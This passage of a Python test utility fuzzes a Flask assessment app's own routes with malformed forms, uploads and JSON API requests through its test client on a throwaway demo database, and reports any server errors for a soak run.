        elif roll < 0.95:  # JSON junk, the token (sometimes) in the header Flask-WTF also reads
            typed = {k: rng.choice([5, 10**30, None, True, [], {}, ["a", "b"], 1.5, v]) for k, v in fields}
            junk: Any = rng.choice([dict(fields), typed, typed, [1, 2], "x", None, {"a": {"b": [None] * 5}}, 10**30])
            req.body = rng.choice([json.dumps(junk).encode(), b"{", b'{"a":', b"\xff\xfe{}"])
            req.content_type = "application/json"
            if rng.random() < 0.6 and ident.token:
                req.headers["X-CSRFToken"] = ident.token
        elif roll < 0.98:
            req.body, req.content_type = (
                urlencoded,
                rng.choice(["text/plain", "application/xml", "multipart/form-data"]),
            )
        else:
            req.body = urlencoded.decode().encode("utf-16")
            req.content_type = "application/x-www-form-urlencoded; charset=utf-16"

    def _upload_body(self, req: FuzzRequest, fields: Pairs, name: str) -> None:
        """A form post with a file under the field the view reads: a real PDF, a workbook, JSON, junk or nothing."""
        rng = self.rng
        data: MultiDict[str, Any] = MultiDict(fields)
        content, filename, media = rng.choice(
            [
                (b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "avtal.pdf", "application/pdf"),
                (b"PK\x03\x04" + bytes(rng.getrandbits(8) for _ in range(64)), "svar.xlsx", "application/zip"),
                (
                    json.dumps({"format": "molnbedomning-assessment/1", "answers": {}}).encode(),
                    "b.json",
                    "application/json",
                ),
                (rng.choice(INVALID_UTF8), "x.txt", "text/plain"),
                (b"", "tom.pdf", "application/pdf"),
                (b"MZ\x90\x00" * 16, "program.pdf", "application/pdf"),
            ]
        )
        data.add(name, FileStorage(io.BytesIO(content), filename, content_type=media))
        boundary, req.body = encode_multipart(data, f"fuzz{rng.getrandbits(32):08x}")
        req.content_type = f"multipart/form-data; boundary={boundary}"

    @staticmethod
    def _header_safe(value: str) -> str:
        """A header value as HTTP can carry it (no line breaks: no client could send those)."""
        return "".join(c for c in value if c not in "\r\n\x00")

    def _api_body(self, req: FuzzRequest) -> None:
        """A JSON write to the API: well-formed or not, with a random or missing If-Match and token."""
        rng = self.rng
        answer = {
            "value": rng.choice(["yes", "no", "unknown", 3, None, 10**30, [], "x" * 5000, fuzz_value(rng)]),
            "evidence": rng.choice(["E0", "E2", "E9", 2, None]),
            "motivation": rng.choice(["", fuzz_value(rng), None, 7]),
        }
        body: Any = rng.choice(
            [
                {"answers": {rng.choice(["G-01", "L-08", "Z-99", ""]): answer}},
                answer,
                {"text": fuzz_value(rng), "question_id": rng.choice(["G-01", None, 5])},
                [answer],
                None,
                "x",
            ]
        )
        req.body = rng.choice([json.dumps(body).encode()] * 4 + [b"{", b"\xff\xfe{}", b"[" * 50])
        req.content_type = rng.choice(["application/json"] * 4 + ["application/merge-patch+json", "text/plain"])
        if rng.random() < 0.7:
            req.headers["If-Match"] = rng.choice(
                ['"1"', '"999999"', "*", 'W/"2"', self._header_safe(fuzz_value(rng)[:40]), '"-1"']
            )
        if rng.random() < 0.5:
            req.headers["Authorization"] = rng.choice(
                ["Bearer mb_" + "x" * 43, "Bearer ", "Basic Zm9vOmJhcg==", "Bearer mb_\u00e9"]
            )

    # -- sending

    def send(self, req: FuzzRequest, warmup: bool = False) -> tuple[int, str]:
        """Send one request; record its status and, for a server error, the exception."""
        ident = self.identity(req.identity)
        self.log.last = None
        exc: tuple[str, str, str] | None = None
        kwargs: dict[str, Any] = {
            "method": req.route.method,
            "query_string": req.query_string or None,
            "headers": req.headers,
            "environ_base": {"REMOTE_ADDR": req.remote_addr},
        }
        if req.body is not None:
            kwargs["data"] = req.body
            kwargs["content_type"] = req.content_type
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            try:
                response = contextvars.Context().run(ident.client.open, req.path, **kwargs)
            except HTTPException as error:  # raised outside the app (e.g. by the client): count as sent
                status, body, location = error.code or 400, "", ""
            except Exception as error:  # escaped the app's own handlers
                status, body, location, exc = 500, "", "", describe_exception(error)
            else:
                status = response.status_code
                location = response.headers.get("Location", "")
                body = response.get_data(as_text=True) if response.mimetype == "text/html" else ""
                response.close()
        for w in caught:
            self.report.warnings[f"{w.category.__name__}: {str(w.message)[:120]}"] += 1
        if status >= 500 and exc is None:
            exc = self.log.last
        kind = self._kind(req, status, body, location)
        if body:
            self._harvest(ident, body, req.url)
        self.report.record(req, status, kind, exc, warmup)
        if not warmup:
            self.report.digest.update(self._normalized(req))
        return status, kind

    def _normalized(self, req: FuzzRequest) -> bytes:
        """The request without what differs between two runs on the same data (CSRF tokens, passwords, times)."""
        passwords = [p for p in self.passwords.values() if p]

        def hidden(key: str, value: str) -> str:
            if key == "csrf_token" or key.endswith("-csrf_token"):  # a prefixed form's token too
                return "<secret>"
            for password in passwords:  # the demo's passwords are random: a mutated one differs between runs
                value = value.replace(password, "<secret>")
            return value

        fields = [(k, hidden(k, v)) for k, v in req.fields]
        head = f"{req.identity} {req.route.method} {req.url} {req.content_type} {req.csrf} {sorted(req.headers)}"
        text = f"{head}\n{fields!r}\n".encode()
        return TIMESTAMP_RE.sub(b"<time>", text)

    def _kind(self, req: FuzzRequest, status: int, body: str, location: str) -> str:
        if status >= 500:
            return "server error"
        if status == 404:
            return "not found"
        if status == 403:
            return "forbidden"
        if status == 405:
            return "method not allowed"
        if status == 400 and CSRF_MESSAGE in body:
            return "csrf refused"
        if status == 302 and location.startswith("/logga-in") and req.identity == ANONYMOUS:
            return "sign-in required"
        return "reached the view"

    def _harvest(self, ident: Identity, html: str, url: str) -> None:
        match = CSRF_RE.search(html)
        if match:
            ident.token = match.group(1)
        self.forms.add_page(html, url)
        self.report.forms_seen = len(self.forms)

    # -- running

    def warm_up(self) -> None:
        """Visit the pages with forms once per identity that sees different forms, to learn fields and tokens."""
        get = {r.endpoint: r for r in self.routes if r.method == "GET"}

        def visit(name: str, endpoint: str, url: str) -> None:
            route = get.get(endpoint)
            if route is not None:
                path, _, query = url.partition("?")
                self.send(FuzzRequest(route, name, path, query), warmup=True)

        visit(ANONYMOUS, "auth.login", "/logga-in")
        assessments = self.ids.get("assessment_id", [])
        for name in DEMO_USERS:
            visit(name, "review.tasks", "/mina-uppgifter")
            for aid in assessments:
                visit(name, "review.view", f"/bedomningar/{aid}/granskning")
        for name in ("arkitekt",):
            for rule in self.routes:
                if rule.method != "GET" or "pdf" in rule.rule:
                    continue
                for _ in range(2 if rule.arguments else 1):
                    path = self.build_path_existing(rule)
                    visit(name, rule.endpoint, path)
            for aid in assessments:
                for step in STEPS:
                    visit(name, "assessments.view", f"/bedomningar/{aid}?steg={step}")

    def build_path_existing(self, route: Route) -> str:
        return re.sub(
            r"<(?:[^:<>]+:)?([^<>]+)>",
            lambda m: str(self.rng.choice(self.ids.get(m.group(1)) or [1])),
            route.rule,
        )

    def run(self, budget: int, progress: Callable[[FuzzReport], None] | None = None) -> FuzzReport:
        """Make `budget` fuzz requests (after a short warm-up); return the report. progress: every 500 requests."""
        start = time.monotonic()
        logger = self.app.logger
        saved = (logger.handlers[:], logger.propagate, logger.disabled)
        # Alembic's fileConfig (flask db upgrade) disables loggers that exist when it runs: enable ours again.
        logger.handlers[:], logger.propagate, logger.disabled = [self.log], False, False
        try:
            self.refresh_ids()
            self.warm_up()
            order: list[Route] = []
            for i in range(budget):
                if not order:  # each route once a round, each form post twice: the writes are where depth counts
                    order = self.routes[:] + [r for r in self.routes if r.method == "POST" and r.rule[:5] != "/api/"]
                    self.rng.shuffle(order)
                if i % 50 == 49:
                    self.refresh_ids()
                self.send(self.build_request(order.pop()))
                if progress is not None and i % 500 == 499:
                    self.report.seconds = time.monotonic() - start
                    progress(self.report)
        finally:
            logger.handlers[:], logger.propagate, logger.disabled = saved
        self.report.seconds = time.monotonic() - start
        return self.report


def demo_accounts(instance: Path) -> tuple[dict[str, str], dict[str, str]]:
    """Return the demo accounts' passwords and roles by username, from the instance folder's demo-accounts.txt."""
    path = instance / "demo-accounts.txt"
    rows = [line.split() for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
    return {r[0]: r[1] for r in rows if len(r) >= 3}, {r[0]: r[2] for r in rows if len(r) >= 3}


def run_fuzz(
    app: Flask,
    budget: int | None = None,
    seed: int | None = None,
    database: str | None = None,
    progress: Callable[[FuzzReport], None] | None = None,
) -> FuzzReport:
    """Fuzz an app with the demo data loaded; budget and seed default to the environment's."""
    fuzzer = Fuzzer(app, seed_from_env() if seed is None else seed, database)
    return fuzzer.run(budget_from_env() if budget is None else budget, progress)


# --- apps to fuzz (for the tests and the soak run) ------------------------------------------------------------


def decide_demo_assessment(app: Flask, scope_prefix: str = "D2") -> None:
    """Take one demo assessment through review to an approved decision, so records and conditions exist too."""
    from assess.extensions import db
    from assess.models import Assessment
    from tests.assess.helpers import approve_use, demo_users, submit_and_approve

    def decide() -> None:
        assessment = db.session.scalar(select(Assessment).where(Assessment.scope.like(f"{scope_prefix}%")))
        if assessment is None:
            raise LookupError(f"no demo assessment {scope_prefix}")
        users = demo_users()
        submit_and_approve(assessment, users)
        approve_use(assessment, users, dt.date.today())
        db.session.commit()

    def run() -> None:
        with app.app_context():
            decide()

    contextvars.Context().run(run)


@contextmanager
def postgres_database(admin_url: str) -> Iterator[str]:
    """Create a fresh database on the server; yield its URL; drop it afterwards."""
    name = f"assess_fuzz_{secrets.token_hex(4)}"
    admin = create_engine(admin_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    try:
        yield make_url(admin_url).set(database=name).render_as_string(hide_password=False)
    finally:
        with admin.connect() as conn:
            conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


@contextmanager
def demo_app(database_uri: str, instance: Path) -> Iterator[Flask]:
    """An app on the database, migrated, with `flask demo load` run and D2 decided; in an app context."""
    from flask_migrate import upgrade

    from assess import create_app
    from assess.extensions import db
    from tests.conftest import TEST_CONFIG

    app = create_app({**TEST_CONFIG, "SQLALCHEMY_DATABASE_URI": database_uri})
    app.instance_path = str(instance)
    with app.app_context():
        upgrade()
        result = app.test_cli_runner().invoke(args=["demo", "load"])
        if result.exit_code != 0:
            raise RuntimeError(f"flask demo load failed:\n{result.output}")
        db.session.remove()
        decide_demo_assessment(app)
        try:
            yield app
        finally:
            db.session.remove()
            db.engine.dispose()


def main(argv: list[str] | None = None) -> int:
    """The soak run: fuzz a fresh demo database; exit 1 when any server error was found."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--requests", type=int, default=budget_from_env())
    parser.add_argument("--seed", type=int, default=seed_from_env())
    parser.add_argument("--postgres", metavar="ADMIN_URL", help="fuzz a fresh database on this PostgreSQL server")
    args = parser.parse_args(argv)
    for name in [n for n in os.environ if n.startswith("ASSESS_")]:
        del os.environ[name]
    with tempfile.TemporaryDirectory(prefix="assess-fuzz-") as folder:
        instance = Path(folder)
        with scratch_database(args.postgres, instance) as uri, demo_app(uri, instance) as app:
            report = run_fuzz(
                app,
                args.requests,
                args.seed,
                "postgresql" if args.postgres else "sqlite",
                lambda r: print(
                    f"{r.requests} requests, {r.seconds:.0f} s, {len(r.failures)} distinct server errors",
                    file=sys.stderr,
                    flush=True,
                ),
            )
    print(report.summary())
    if report.failures:
        print(report.describe_failures())
    return 1 if report.failures else 0


@contextmanager
def scratch_database(admin_url: str | None, instance: Path) -> Iterator[str]:
    """A fresh PostgreSQL database when an admin URL is given, else a SQLite file in the instance folder."""
    if admin_url:
        with postgres_database(admin_url) as url:
            yield url
    else:
        yield f"sqlite:///{instance / 'assess.sqlite3'}"


if __name__ == "__main__":
    sys.exit(main())


def soak(kind: str, requests: int, folder: Path, seed: int | None = None) -> dict[str, Any]:
    """Fuzz a fresh demo database of the kind for `make soak`; return the figures (server_errors must be 0)."""
    admin = os.environ.get("MOLNBEDOMNING_TEST_POSTGRES_URL") if kind == "postgresql" else None
    with scratch_database(admin, folder) as uri, demo_app(uri, folder) as app:
        report = run_fuzz(app, requests, seed, kind)
    by_status = Counter(status for (_, _, status), n in report.statuses.items() for _ in range(n))
    if report.failures:
        print(report.describe_failures())
    return {
        "requests": report.requests,
        "seconds": round(report.seconds),
        "server_errors": sum(f.count for f in report.failures.values()),
        "distinct_server_errors": len(report.failures),
        "statuses": dict(sorted(by_status.items())),
        "reached_views": sum(report.kinds.get(k, 0) for k in ("reached the view",)),
    }
